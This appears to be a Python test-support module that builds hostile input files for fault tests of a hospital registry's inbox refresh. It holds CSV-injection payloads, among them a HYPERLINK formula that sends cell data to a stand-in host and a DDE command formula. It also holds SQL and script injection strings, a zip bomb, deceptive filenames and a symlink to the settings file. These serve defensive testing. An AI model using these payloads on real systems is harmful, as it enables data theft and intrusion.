"""What a hospital should never send, and sends: files for the refresh of a hostile inbox.

Belongs here: the files and the litter, a refresh while one of them grows.
Does not belong here: what must become of them (``tests/fault/test_refresh_hostile.py``).
"""

from __future__ import annotations

import io
import os
import subprocess
import threading
import time
import zipfile

from registry_pipeline.core.home import Home
from tests.support.registry_home import (
    CONTACT_HEADER,
    HOSPITAL,
    N_PATIENTS,
    PATIENT_HEADER,
    patient_row,
    patients_csv,
    registry,
    send,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
CALCULATOR = "=cmd|' /C calc'!A0"
TEXTS = (
    FORMULA,
    CALCULATOR,
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    "'; DROP TABLE patient; --",
    "{{ 7*7 }} ${7*7}",
    "\u202egnp.exe",
    "long " + "x" * 3000,
)
PASSWORD = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(900)
)
# Files that hold nothing usable -> rule, severity, words of the reason; none of them may change a table.
USELESS: dict[str, tuple[bytes, str, str, str]] = {
    "patients_empty.csv": (b"", "S01", "error", "no bytes"),
    "patients_header.csv": (f"{PATIENT_HEADER}\n".encode(), "S01", "warning", "no rows"),
    "patients_binary.csv": (bytes(range(256)) * 40, "S01", "error", "not text"),
    "patients_password.xlsx": (PASSWORD, "S01", "error", "password"),
    "deaths_encoding.csv": ("number,died,note\nK0001,2019-09-09,患者死亡\n".encode("gb18030"), "S01", "error", "decode"),
    "patients_column.csv": (b"number,sex,diagnosed\nK0001,female,2015-01-01\nK0002,female,2015-02-01\n", "S02", "error", "missing"),
    "letters.csv": (b"a,b\n1,2\n", "S02", "error", "no source takes this file"),
}  # fmt: skip


def bomb() -> bytes:
    """An archive that unpacks to a thousand times its size."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("patients.csv", b"number,born\n" + bytes(15 * 2**20))
    return packed.getvalue()


def hostile_files() -> dict[str, str | bytes]:
    """Files of which some rows can be used and others cannot."""
    good = [patient_row(number) for number in range(N_PATIENTS)]
    texts = [patient_row(100 + at, region=text, histology=text) for at, text in enumerate(TEXTS)]
    wrong = [
        patient_row(120, sex=FORMULA),
        patient_row(121, born=CALCULATOR),
        patient_row(122, stage="<script>alert(2)</script>"),
    ]
    ragged = "K0001,V9101,2019-08-01,alive\nK0002,V9102\nK0004,V9103,2019-08-01,alive,too,many\nK0005,V9104,2019-08-01,alive\n"
    nul = b"\nK0001,V9001,2019-07-01,alive\nK00\x0002,V9002,2019-07-01,alive\nK0002,V9003,2019-07-01,al\x00ive\n"
    return {
        "patients_2.csv": patients_csv([*good, *texts, *wrong]),
        "patients_3.csv": patients_csv(
            [patient_row(3, region="Elsewhere", born="1931-01-01"), patient_row(40)]
        ),
        "patients_cell.csv": patients_csv([patient_row(60, histology="z" * 5_000_000), patient_row(61)]),
        "contacts_nul.csv": CONTACT_HEADER.encode() + nul,
        "contacts_ragged.csv": f"{CONTACT_HEADER}\n{ragged}",
        "contacts_double.csv": "number,visit,seen,state,seen\nK0001,V9201,2019-09-01,alive,2019-09-02\n",
        "contacts_\x1b[31m\n.csv": f"{CONTACT_HEADER}\nK0001,V9301,2019-10-01,alive\n",
        "patients_bomb.zip": bomb(),
    }


def litter(home: Home) -> None:
    """What is no file of a facility."""
    inbox = home.inbox / HOSPITAL
    (inbox / "old_exports").mkdir()
    (inbox / "old_exports" / "patients.csv").write_text("number\n1\n", encoding="utf-8")
    (inbox / "patients_9.csv.part").write_text("number,bo", encoding="utf-8")
    (inbox / "~$patients_2.xlsx").write_bytes(b"lock of a spreadsheet")
    (inbox / "patients_link.csv").symlink_to(home.settings_file)
    os.mkfifo(inbox / "patients_pipe.csv")
    (home.inbox / "nroth").mkdir()
    (home.inbox / "nroth" / "patients.csv").write_text("number\n1\n", encoding="utf-8")


def refresh_while_a_file_grows(home: Home) -> subprocess.CompletedProcess[str]:
    """``registry refresh --plain`` while somebody still writes a file."""
    home.settings_file.write_text(
        home.settings_file.read_text(encoding="utf-8").replace("settle_seconds = 0", "settle_seconds = 1"),
        encoding="utf-8",
    )
    growing = send(home, "contacts_growing.csv", f"{CONTACT_HEADER}\n")
    is_over = threading.Event()

    def grow() -> None:
        number = 0
        while not is_over.is_set():
            with growing.open("a", encoding="utf-8") as out:
                out.write(f"K0001,V8{number:04d},2019-11-01,alive\n")
            number += 1
            time.sleep(0.05)

    writer = threading.Thread(target=grow)
    writer.start()
    try:
        return registry(home, "refresh", "--plain")
    finally:
        is_over.set()
        writer.join()
